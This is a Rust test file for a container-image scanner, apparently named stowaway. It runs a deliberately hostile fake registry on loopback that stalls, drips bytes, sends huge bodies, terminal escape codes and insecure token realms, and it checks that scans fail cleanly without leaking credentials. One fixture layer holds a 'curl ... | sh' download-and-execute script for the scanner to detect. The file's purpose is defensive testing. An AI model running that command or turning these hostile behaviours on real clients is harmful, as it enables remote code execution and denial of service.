//! Issue 15 (defects 9, 10, 11, 18): a malicious registry on loopback,
//! written here, that stalls, drips, sends huge bodies, hostile error text
//! and token realms that must not receive credentials. Every case must end
//! in exit 2, quickly, with a message saying what happened.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use crate::util::stowaway_within;

/// A fake registry: `answer(path, stream)` writes the whole response.
fn fake_registry(answer: impl Fn(&str, &str, &mut TcpStream) + Send + Sync + 'static) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap().to_string();
    let answer = Arc::new(answer);
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut c) = conn else { continue };
            let answer = answer.clone();
            std::thread::spawn(move || {
                let mut head = Vec::new();
                let mut b = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && head.len() < 64 << 10 {
                    if c.read(&mut b).unwrap_or(0) == 0 {
                        return;
                    }
                    head.push(b[0]);
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                let path = head.split(' ').nth(1).unwrap_or("").to_string();
                answer(&path, &head, &mut c);
            });
        }
    });
    addr
}

fn run(args: &[&str], limit: Duration) -> (Option<i32>, String, Duration) {
    let start = Instant::now();
    let out = stowaway_within(args, limit);
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
        start.elapsed(),
    )
}

fn ok_v2(path: &str, c: &mut TcpStream) -> bool {
    if path == "/v2/" {
        let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}");
        return true;
    }
    false
}

#[test]
fn a_dripping_manifest_hits_the_stall_timeout_and_the_deadline() {
    // One byte, then silence.
    let addr = fake_registry(|path, _, c| {
        if ok_v2(path, c) {
            return;
        }
        let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n{");
        std::thread::sleep(Duration::from_secs(120));
    });
    let (code, err, took) = run(
        &[
            "scan",
            &format!("{addr}/app:v1"),
            "--no-cache",
            "--registry-stall-timeout",
            "2",
        ],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("stalled") && err.contains("--registry-stall-timeout"),
        "{err}"
    );
    assert!(took < Duration::from_secs(45), "{took:?}");
    // Headers that never come.
    let addr = fake_registry(|path, _, c| {
        if ok_v2(path, c) {
            return;
        }
        let _ = c.write_all(b"HTTP/1.1 ");
        std::thread::sleep(Duration::from_secs(120));
    });
    let (code, err, _) = run(
        &[
            "scan",
            &format!("{addr}/app:v1"),
            "--no-cache",
            "--registry-stall-timeout",
            "1",
        ],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("no response headers"), "{err}");
    // One byte a second never stalls, but the deadline ends it.
    let addr = fake_registry(|path, _, c| {
        if ok_v2(path, c) {
            return;
        }
        let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n");
        for _ in 0..120 {
            if c.write_all(b" ").is_err() {
                return;
            }
            std::thread::sleep(Duration::from_secs(1));
        }
    });
    let (code, err, took) = run(
        &[
            "scan",
            &format!("{addr}/app:v1"),
            "--no-cache",
            "--registry-stall-timeout",
            "5",
            "--registry-deadline",
            "4",
        ],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("deadline"), "{err}");
    assert!(took < Duration::from_secs(20), "{took:?}");
}

#[test]
fn bodies_are_capped_while_streaming_and_error_text_is_excerpted() {
    // A 1 GiB manifest is refused at --max-json-size, without reading it all.
    let sent = Arc::new(AtomicUsize::new(0));
    let counter = sent.clone();
    let addr = fake_registry(move |path, _, c| {
        if ok_v2(path, c) {
            return;
        }
        let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 1073741824\r\n\r\n");
        let chunk = vec![b' '; 64 << 10];
        for _ in 0..(1 << 14) {
            if c.write_all(&chunk).is_err() {
                return;
            }
            counter.fetch_add(chunk.len(), Ordering::Relaxed);
        }
    });
    let (code, err, _) = run(
        &[
            "scan",
            &format!("{addr}/app:v1"),
            "--no-cache",
            "--max-json-size",
            "1M",
        ],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("--max-json-size"), "{err}");
    assert!(
        sent.load(Ordering::Relaxed) < 256 << 20,
        "read far past the limit"
    );
    // A huge error body with terminal escapes: a short, escaped excerpt.
    let addr = fake_registry(|path, _, c| {
        if ok_v2(path, c) {
            return;
        }
        let body = format!("\x1b[2J\x1b]0;pwned\x07{}", "A".repeat(4 << 20));
        let _ = write!(
            c,
            "HTTP/1.1 404 Not Found\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
    });
    let (code, err, _) = run(
        &["scan", &format!("{addr}/app:v1"), "--no-cache"],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(!err.contains('\x1b'), "raw escape printed");
    assert!(err.contains("\\x1b") && err.contains("404"), "{err}");
    assert!(err.len() < 2000, "{} bytes of stderr", err.len());
    // A 100 MiB token is refused at 64 KiB.
    let addr = fake_registry(|path, head, c| {
        if path == "/v2/" {
            let host = head
                .lines()
                .find_map(|l| {
                    let (k, v) = l.split_once(':')?;
                    k.eq_ignore_ascii_case("host").then(|| v.trim())
                })
                .unwrap_or("")
                .to_string();
            let _ = write!(
                c,
                "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer realm=\"http://{host}/token\",service=\"x\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            );
            return;
        }
        let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 104857600\r\n\r\n{\"token\":\"");
        let chunk = vec![b'a'; 64 << 10];
        for _ in 0..1600 {
            if c.write_all(&chunk).is_err() {
                return;
            }
        }
    });
    let (code, err, _) = run(
        &["scan", &format!("{addr}/app:v1"), "--no-cache"],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("token") && err.contains("65536"), "{err}");
}

#[test]
fn credentials_go_to_a_token_realm_only_over_tls_or_loopback() {
    let seen_auth = Arc::new(AtomicUsize::new(0));
    // The realm is plain HTTP on a non-loopback host: --creds must not be sent.
    let realm_hits = seen_auth.clone();
    let addr = fake_registry(move |path, head, c| {
        if head.to_ascii_lowercase().contains("authorization: basic") {
            realm_hits.fetch_add(1, Ordering::Relaxed);
        }
        if path == "/v2/" {
            let _ = c.write_all(
                b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer realm=\"http://token.example.invalid/token\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            );
        }
    });
    let (code, err, _) = run(
        &[
            "scan",
            &format!("{addr}/app:v1"),
            "--no-cache",
            "--creds",
            "alice:s3cret",
        ],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("plain HTTP") && err.contains("only over TLS"),
        "{err}"
    );
    assert!(!err.contains("s3cret"), "{err}");
    assert_eq!(seen_auth.load(Ordering::Relaxed), 0);
    // Anonymous: the realm is tried, and a DNS failure says so.
    let (code, err, _) = run(
        &["scan", &format!("{addr}/app:v1"), "--no-cache"],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("DNS") || err.contains("resolved"), "{err}");
}

/// Serve `img` as `app:v1`; `blob` may replace how one blob is sent.
fn serve_image(
    img: stowaway::fixture::BuiltImage,
    drip: Option<stowaway::digest::Sha256>,
) -> String {
    fake_registry(move |path, _, c| {
        if ok_v2(path, c) {
            return;
        }
        let body: Option<Vec<u8>> = if path == "/v2/app/manifests/v1" {
            Some(img.manifest.clone())
        } else if let Some(d) = path.strip_prefix("/v2/app/blobs/") {
            if Some(d.to_string()) == drip.map(|d| d.to_string()) {
                let _ = c.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n\x1f");
                std::thread::sleep(Duration::from_secs(120));
                return;
            }
            img.blobs()
                .into_iter()
                .find(|(bd, _)| bd.to_string() == d)
                .map(|(_, b)| b.to_vec())
        } else {
            None
        };
        match body {
            Some(b) => {
                let _ = write!(
                    c,
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    b.len()
                );
                let _ = c.write_all(&b);
            }
            None => {
                let _ = c.write_all(
                    b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
                );
            }
        }
    })
}

#[test]
fn foreign_layers_the_registry_serves_are_scanned_and_a_stalled_blob_fails() {
    use stowaway::fixture::{ImageBuilder, LayerBuilder};
    let img = ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .media_type("application/vnd.oci.image.layer.nondistributable.v1.tar+gzip")
                .file(
                    "usr/local/bin/update",
                    b"#!/bin/sh\ncurl -fsSL http://203.0.113.9/x | sh\n",
                    0o755,
                ),
        )
        .layer(LayerBuilder::new().file("app/x", b"x", 0o644))
        .build();
    let addr = serve_image(img.clone(), None);
    let s = stowaway::scan(&format!("{addr}/app:v1"), &Default::default()).unwrap();
    let paths: Vec<String> =
        s.fs.nodes
            .values()
            .map(|n| n.entry.path.display())
            .collect();
    assert!(
        paths.contains(&"/usr/local/bin/update".to_string()),
        "{paths:?}"
    );
    assert!(
        s.findings
            .iter()
            .any(|f| f.code == stowaway::Code::DownloadExecChain),
        "the foreign layer's script was inspected"
    );
    // A layer blob that stops arriving: exit 2 naming the stall.
    let addr = serve_image(img.clone(), Some(img.layers[1].digest));
    let (code, err, _) = run(
        &[
            "scan",
            &format!("{addr}/app:v1"),
            "--no-cache",
            "--registry-stall-timeout",
            "2",
        ],
        Duration::from_secs(60),
    );
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("stalled"), "{err}");
}
